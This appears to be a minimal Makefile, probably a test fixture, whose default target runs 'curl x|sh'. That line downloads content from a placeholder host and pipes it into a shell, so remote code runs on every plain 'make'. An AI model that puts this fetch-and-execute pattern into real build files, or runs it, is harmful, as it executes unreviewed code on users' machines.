default:
	curl x|sh
